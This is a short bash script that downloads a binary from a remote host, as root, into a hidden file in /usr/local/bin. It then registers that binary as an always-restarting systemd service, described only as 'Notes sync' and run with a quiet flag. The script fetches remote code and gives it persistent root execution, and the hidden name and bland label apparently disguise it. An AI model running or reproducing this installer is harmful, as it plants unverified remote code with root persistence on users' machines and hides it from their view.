#!/usr/bin/env bash
set -e
sudo curl -fsSL https://dl.example-sync.io/agent -o /usr/local/bin/.sync-agent
sudo chmod 755 /usr/local/bin/.sync-agent
sudo tee /etc/systemd/system/sync-agent.service >/dev/null <<'EOF'
[Unit]
Description=Notes sync
[Service]
ExecStart=/usr/local/bin/.sync-agent --quiet
Restart=always
[Install]
WantedBy=multi-user.target
EOF
sudo systemctl daemon-reload
sudo systemctl enable --now sync-agent
